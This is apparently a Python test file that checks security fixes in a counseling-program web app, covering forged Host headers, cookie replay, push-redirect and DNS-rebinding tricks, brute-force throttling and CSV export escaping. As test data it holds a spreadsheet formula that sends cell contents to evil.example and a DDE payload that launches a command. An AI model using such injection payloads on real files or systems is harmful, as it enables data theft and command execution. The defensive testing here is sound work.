"""The holes of issue 18, each attacked from outside the way the review found it (see SECURITY notes in README)."""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
import time
from datetime import date, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from companion.blueprints.auth import services as auth_services
from companion.blueprints.reminders import services as reminder_services
from companion.blueprints.reminders.dispatch import dispatch
from companion.blueprints.reminders.vapid import new_vapid_keys
from companion.config import Config
from companion.extensions import db
from companion.models import PushSubscription, Reminder, SignIn, User
from tests.conftest import PASSWORD, Auth, csrf_from
from tests.fixtures.push import PushServer
from tests.fixtures.sessions import alex, counselor, make_group, program, utc  # noqa: F401

APP_URL = "https://companion.example.org"
EVIL = "http://evil.example"


# 1. Absolute links come from APP_URL, never from the Host header; other hosts are refused in production.

def test_a_reset_link_ignores_a_forged_host_header(app, client, participant, smtp_server):
    app.config["APP_URL"] = APP_URL
    token = csrf_from(client.get("/reset", base_url=EVIL).get_data(as_text=True))
    client.post("/reset", data={"email": "alex@example.org", "csrf_token": token}, base_url=EVIL)
    body = smtp_server.inbox.messages[-1].get_content()
    assert "evil.example" not in body
    assert re.search(r"https://companion\.example\.org/reset/\S+", body)


def test_the_calendar_feed_url_ignores_a_forged_host_header(app, client, auth, participant):
    app.config["APP_URL"] = APP_URL
    client.post("/api/v1/session", json={"email": "alex@example.org", "password": PASSWORD}, base_url=EVIL)
    body = client.get("/api/v1/reminder-settings", base_url=EVIL).get_json()
    assert body["calendar_url"].startswith(APP_URL + "/")


def test_requests_for_another_host_are_refused_when_trusted_hosts_are_set(app, client):
    app.config["TRUSTED_HOSTS"] = ["companion.example.org"]
    assert client.get("/login", base_url=EVIL).status_code == 400
    assert client.get("/api/v1/session", base_url=EVIL).status_code == 400
    assert client.get("/login", base_url=APP_URL).status_code == 200


def test_production_trusts_only_app_urls_host_and_trusted_hosts(monkeypatch):
    monkeypatch.setenv("HTTPS", "1")
    monkeypatch.setenv("APP_URL", APP_URL + "/")
    monkeypatch.setenv("TRUSTED_HOSTS", "www.companion.example.org, Companion.Example.NET")
    config = Config()
    assert config.APP_URL == APP_URL
    assert config.TRUSTED_HOSTS == ["companion.example.org", "www.companion.example.org", "companion.example.net"]
    monkeypatch.delenv("APP_URL")
    monkeypatch.delenv("TRUSTED_HOSTS")
    assert Config().TRUSTED_HOSTS == []  # HTTPS on and nothing configured: no host at all, and `check` says why


# 2. Signing out ends the session on the server: a copy of the cookie taken before is worthless.

def copy_of_cookie(client) -> str:
    return client.get_cookie("companion_session").value


def replay(app, cookie: str, path: str = "/journal"):
    thief = app.test_client()
    thief.set_cookie("companion_session", cookie)
    return thief.get(path)


def test_a_cookie_copied_before_sign_out_no_longer_signs_in(app, client, auth, participant):
    auth.login("alex@example.org")
    stolen = copy_of_cookie(client)
    assert replay(app, stolen).status_code == 200
    auth.logout()
    assert replay(app, stolen).status_code == 302
    assert replay(app, stolen, "/api/v1/session").status_code == 401


def test_a_cookie_copied_before_api_sign_out_no_longer_signs_in(app, client, auth, participant):
    token = auth.api_login("alex@example.org")
    stolen = copy_of_cookie(client)
    assert client.delete("/api/v1/session", headers={"X-CSRFToken": token}).status_code == 204
    assert replay(app, stolen, "/api/v1/session").status_code == 401


@pytest.mark.parametrize("how", ["everywhere", "password", "deactivate"])
def test_other_devices_are_signed_out_on_the_server(app, client, auth, participant, how):
    other = app.test_client()
    Auth(other).login("alex@example.org")
    auth.login("alex@example.org")
    assert db.session.scalar(db.select(db.func.count()).select_from(SignIn)) == 2
    if how == "everywhere":
        client.post("/settings/sign-out-everywhere", data={"csrf_token": csrf_from(client.get("/settings").get_data(as_text=True))})
    elif how == "password":
        client.post("/settings", data={"csrf_token": csrf_from(client.get("/settings").get_data(as_text=True)),
                                       "password-current_password": PASSWORD,
                                       "password-new_password": "another long and unusual phrase",
                                       "password-submit": "1"})
    else:
        auth_services.deactivate(db.session.get(User, participant.id))
    assert other.get("/journal").status_code == 302
    remaining = 1 if how == "password" else 0  # the device that changed the password stays signed in
    assert db.session.scalar(db.select(db.func.count()).select_from(SignIn)) == remaining


def test_the_server_side_session_is_read_with_the_user_in_one_statement(app, client, auth, participant, count_queries):
    from flask import session

    from companion.blueprints.auth.sign_in_sessions import load_user

    auth.login("alex@example.org")
    with client.session_transaction() as cookie:
        sid = cookie["sid"]
    user_id = participant.get_id()
    with app.test_request_context("/"):
        session["sid"] = sid
        with count_queries() as counter:
            user = load_user(user_id)
        assert user is not None and user.id == participant.id
        assert counter.count == 1
        session["sid"] = "forged"
        assert load_user(user_id) is None


# 3. Web push: a redirect is a failed delivery, and the send goes to the address that was checked.

NOW = utc(2026, 2, 2, 12)
SESSION = utc(2026, 2, 2, 23)


@pytest.fixture
def push_server(app, monkeypatch):
    from companion.blueprints.reminders import planner

    monkeypatch.setattr(planner, "utcnow", lambda: NOW)
    server = PushServer().start()
    private, public = new_vapid_keys()
    app.config.update(PUSH_ALLOW_LOOPBACK=True, VAPID_PRIVATE_KEY=private, VAPID_PUBLIC_KEY=public,
                      VAPID_SUBJECT="mailto:ops@example.org")
    yield server
    server.stop()


class Recorder:
    """A loopback HTTP server that records every request and answers each with ``status`` (and ``location``)."""

    def __init__(self, host="127.0.0.1", port=0, status=201, location=None):
        self.requests: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                recorder.requests.append(self.path)
                self.send_response(status)
                if location:
                    self.send_header("Location", location)
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.httpd = ThreadingHTTPServer((host, port), Handler)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def stop(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def push_to(user, endpoint: str, receiver) -> None:
    """A push subscription stored as it is (the endpoint's own check is what the test is about)."""
    keys = receiver.subscription()["keys"]
    db.session.add(PushSubscription(user_id=user.id, endpoint=endpoint, p256dh=keys["p256dh"], auth=keys["auth"]))
    db.session.commit()


def push_rows():
    return list(db.session.scalars(db.select(Reminder).where(Reminder.channel == "push")))


def test_a_push_service_answering_307_is_a_failed_delivery_and_is_not_followed(make_group, alex, push_server):
    reminder_services.update_settings(alex, lead_minutes=[60], channels=["push"])
    make_group([alex], start_date=date(2026, 1, 5))
    receiver = push_server.receiver("inside")
    redirector = Recorder(status=307, location=receiver.endpoint)
    try:
        push_to(alex, f"http://127.0.0.1:{redirector.port}/push/outside", receiver)
        counts = dispatch(SESSION - timedelta(hours=1))
    finally:
        redirector.stop()
    assert redirector.requests == ["/push/outside"]
    assert push_server.received == {}  # the redirect's target was never posted to
    assert counts.failed == 1 and counts.sent == 0
    assert [row.status for row in push_rows() if row.occurrence_at == SESSION] == ["pending"]  # tried again later


def test_a_push_endpoint_whose_name_resolves_elsewhere_the_second_time_is_reached_where_it_was_checked(
        make_group, alex, push_server, monkeypatch):
    reminder_services.update_settings(alex, lead_minutes=[60], channels=["push"])
    make_group([alex], start_date=date(2026, 1, 5))
    receiver = push_server.receiver("phone")
    elsewhere = Recorder(host="127.0.0.2", port=push_server.port)  # the same port on another address
    real = socket.getaddrinfo
    calls = []

    def rebinding(host, port, *args, **kwargs):
        if host != "push.rebind.test":
            return real(host, port, *args, **kwargs)
        calls.append(host)
        address = "127.0.0.1" if len(calls) == 1 else "127.0.0.2"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    try:
        push_to(alex, f"http://push.rebind.test:{push_server.port}/push/phone", receiver)
        counts = dispatch(SESSION - timedelta(hours=1))
    finally:
        elsewhere.stop()
    assert elsewhere.requests == []
    assert len(push_server.received["/push/phone"]) == 1 and counts.sent == 1


# 5. Registration answers the same whether or not the address has an account; it and reset are throttled.

NEW = {"password": "river stones and quiet mornings", "name": "Robin", "timezone": "America/Chicago", "invite_code": ""}


def register(client, email, **changes):
    token = csrf_from(client.get("/register").get_data(as_text=True))
    return client.post("/register", data={**NEW, "email": email, **changes, "csrf_token": token})


def test_registration_answers_the_same_for_an_existing_address(app, make_user, smtp_server):
    make_user(email="taken@example.org", name="Taken")
    answers = []
    for email in ["taken@example.org", "free@example.org"]:
        response = register(app.test_client(), email)
        answers.append((response.status_code, response.headers["Location"], response.get_data()))
    assert answers[0] == answers[1]
    assert db.session.scalar(db.select(db.func.count(User.id))) == 2  # the new person is registered, in one step
    mails = smtp_server.inbox.messages
    assert [m["To"] for m in mails] == ["taken@example.org"]
    assert "already have one" in mails[0].get_content() and "/reset" in mails[0].get_content()


def test_registration_probes_are_throttled_per_email_and_per_network_address(app, make_user):
    make_user(email="taken@example.org")
    client = app.test_client()
    statuses = [register(client, "taken@example.org").status_code for _ in range(6)]
    assert statuses == [303] * 5 + [429]
    statuses = [register(client, f"probe{n}@example.org").status_code for n in range(32)]
    assert 429 in statuses and statuses.count(303) < 30
    assert "wait" in register(client, "another@example.org").get_data(as_text=True)


def test_reset_requests_are_throttled_per_email(app, client, participant):
    def ask(email):
        token = csrf_from(client.get("/reset").get_data(as_text=True))
        return client.post("/reset", data={"email": email, "csrf_token": token}).status_code

    assert [ask("alex@example.org") for _ in range(6)] == [303] * 5 + [429]
    assert ask("nobody@example.org") == 303  # another address is not held up by it


# 6. The sign-in limit holds for attempts sent at once: each attempt is reserved before it is checked.

def test_sixteen_wrong_passwords_at_once_are_checked_at_most_ten_times(app, participant, monkeypatch):
    real_verify = auth_services.verify_password
    checked = []

    def slow_verify(password_hash, password):
        checked.append(password)
        time.sleep(0.3)  # the argon2 work, long enough for every request to arrive meanwhile
        return real_verify(password_hash, password)

    monkeypatch.setattr(auth_services, "verify_password", slow_verify)
    statuses = []
    start = threading.Barrier(16)

    def attempt(n):
        client = app.test_client()
        start.wait()
        statuses.append(client.post("/api/v1/session", json={"email": "alex@example.org",
                                                             "password": f"wrong password {n}"}).status_code)

    threads = [threading.Thread(target=attempt, args=(n,)) for n in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(checked) <= 10
    assert sorted(statuses) == [401] * len(checked) + [429] * (16 - len(checked))


def test_successful_sign_ins_still_never_count(app, auth, participant):
    for _ in range(9):
        assert auth.login("alex@example.org", "not the password").status_code == 401
    for _ in range(3):
        assert auth.login("alex@example.org").status_code == 303
        auth.logout()
    assert auth.login("alex@example.org", "not the password").status_code == 401  # the tenth failure
    assert auth.login("alex@example.org", "not the password").status_code == 429


# 7. The participant's "who saw what" download holds no live formula.

def test_a_counselor_named_like_a_formula_is_plain_text_in_the_who_saw_what_csv(client, auth, clinic, make_consent, make_goal):
    clinic.counselor.name = '=HYPERLINK("https://evil.example/?"&A1,"Your counselor")'
    db.session.commit()
    make_consent(clinic.alex, clinic.counselor, purpose="+cmd|' /C calc'!A0")
    make_goal(clinic.alex, shared=True)
    Auth(counselor := client.application.test_client()).login("jordan@example.org")
    counselor.get("/caseload")
    auth.login("alex@example.org")
    rows = list(csv.reader(io.StringIO(client.get("/privacy/who-saw-what.csv").get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not any(cell.lstrip()[:1] in "=+-@" for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_a_counselor_who_names_themselves_as_someone_else_is_shown_with_their_role_and_account(client, auth, clinic, make_consent, make_goal):
    clinic.counselor.name = "Dr. Rivera (your physician)"
    db.session.commit()
    make_consent(clinic.alex, clinic.counselor)
    make_goal(clinic.alex, shared=True)
    Auth(counselor := client.application.test_client()).login("jordan@example.org")
    counselor.get("/caseload")
    auth.login("alex@example.org")
    for page in [client.get("/privacy/who-saw-what"), client.get("/privacy")]:
        assert re.search(r"Dr\. Rivera \(your physician\)\s*<span[^>]*>\(counselor, jordan@example\.org\)</span>",
                         page.get_data(as_text=True))
    rows = list(csv.DictReader(io.StringIO(client.get("/privacy/who-saw-what.csv").get_data(as_text=True))))
    assert (rows[0]["who"], rows[0]["role"], rows[0]["account"]) == ("Dr. Rivera (your physician)", "counselor", "jordan@example.org")


# 4. The PIN lock is the server's: after a minute away, any page in any browser asks for the PIN.

def set_a_pin(client, auth, participant):
    auth.login(participant.email)
    token = csrf_from(client.get("/settings/pin").get_data(as_text=True))
    assert client.post("/settings/pin", data={"csrf_token": token, "pin-pin": "2580", "pin-confirm": "2580",
                                              "pin-submit": "1"}).status_code == 303


def away(client, seconds: int) -> None:
    with client.session_transaction() as session:
        session["seen"] -= seconds


def test_with_a_pin_twenty_minutes_away_any_page_asks_for_it(client, auth, participant):
    set_a_pin(client, auth, participant)
    away(client, 20 * 60)
    response = client.get("/journal")  # the ordinary browser: no /launch, no script
    assert response.status_code == 302 and response.headers["Location"].startswith("/unlock?next=/journal")
    api = client.get("/api/v1/goals")
    assert api.status_code == 401 and api.mimetype == "application/problem+json"
    assert client.get("/help").status_code == 200  # crisis help stays open
    page = client.get("/unlock?next=/journal")
    opened = client.post("/unlock", data={"csrf_token": csrf_from(page.get_data(as_text=True)), "pin": "2580",
                                          "next": "/journal"})
    assert opened.status_code == 303
    assert client.get("/journal").status_code == 200


def test_a_pin_set_on_another_device_locks_this_one_too(app, client, auth, participant):
    auth.login(participant.email)
    set_a_pin(other := app.test_client(), Auth(other), participant)
    away(client, 3 * 60)
    assert client.get("/journal").status_code == 302


def test_with_a_pin_and_under_a_minute_away_pages_stay_open(client, auth, participant):
    set_a_pin(client, auth, participant)
    away(client, 45)
    assert client.get("/journal").status_code == 200


def test_without_a_pin_twenty_minutes_away_is_not_locked(client, auth, participant):
    auth.login(participant.email)
    away(client, 20 * 60)
    assert client.get("/journal").status_code == 200


# Policy: a session page shows staff a member's attendance only under the `attendance` scope, recorded in the ledger.

def test_a_session_page_shows_attendance_only_under_consent_and_records_it(client, counselor, alex, make_user, program,
                                                                           make_group, make_consent):
    from companion.blueprints.sessions import services as session_services
    from companion.models import Attendance, DisclosureEntry

    maria = make_user(email="maria@example.org", name="Maria", program=program)
    group = make_group([alex, maria])
    start = utc(2026, 3, 3, 23)
    key = session_services.occurrence_key(group.id, start)
    make_consent(alex, counselor, scopes=("goals", "attendance"))
    make_consent(maria, counselor, scopes=("goals",))
    for person in (alex, maria):  # each checked in themselves
        db.session.add(Attendance(user_id=person.id, group_id=group.id, occurrence_start=start, present=True,
                                  marked_by_id=person.id))
    db.session.commit()
    Auth(client).login("jordan@example.org")
    page = client.get(f"/sessions/groups/{group.id}/sessions/{key}").get_data(as_text=True)
    assert re.search(rf'value="{alex.id}" checked', page)
    assert not re.search(rf'value="{maria.id}"[^>]*checked', page)
    assert "not shared with you" in page
    whats = {(e.subject_ref, e.what) for e in db.session.scalars(db.select(DisclosureEntry))}
    assert {ref for ref, what in whats if what.startswith("attendance")} == {alex.ledger_ref}
    # Saving the form with Maria's box empty (she was shown without her record) keeps her own check-in.
    client.post(f"/sessions/groups/{group.id}/sessions/{key}/attendance",
                data={"csrf_token": csrf_from(page), "present": [str(alex.id)]})
    assert session_services.attendance_for(group, start) == {alex.id: True, maria.id: True}


# Policy: the API's staff answers carry the 42 CFR Part 2 redisclosure notice, in a header and a field, documented.

def test_the_apis_staff_answers_carry_the_redisclosure_notice(client, auth, clinic, make_consent, make_goal):
    from companion.blueprints.privacy.ledger import REDISCLOSURE_NOTICE

    make_consent(clinic.alex, clinic.counselor)
    make_goal(clinic.alex, shared=True)
    auth.api_login("jordan@example.org")
    answers = [client.get("/api/v1/caseload"), client.get(f"/api/v1/participants/{clinic.alex.id}/goals"),
               client.get(f"/api/v1/participants/{clinic.alex.id}/aftercare")]
    for response in answers:
        assert response.status_code == 200 and response.headers["Redisclosure-Notice"] == REDISCLOSURE_NOTICE
        body = response.get_json()
        records = body if isinstance(body, list) else [body]
        assert records and all(record["redisclosure_notice"] == REDISCLOSURE_NOTICE for record in records)
    assert "Redisclosure-Notice" not in client.get("/api/v1/session").headers
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    for path in ["/caseload", "/participants/{participant_id}/goals", "/participants/{participant_id}/aftercare"]:
        ok = paths["/api/v1" + path]["get"]["responses"]["200"]
        assert "Redisclosure-Notice" in ok["headers"]
        assert "redisclosure_notice" in str(ok["content"]["application/json"]["schema"])
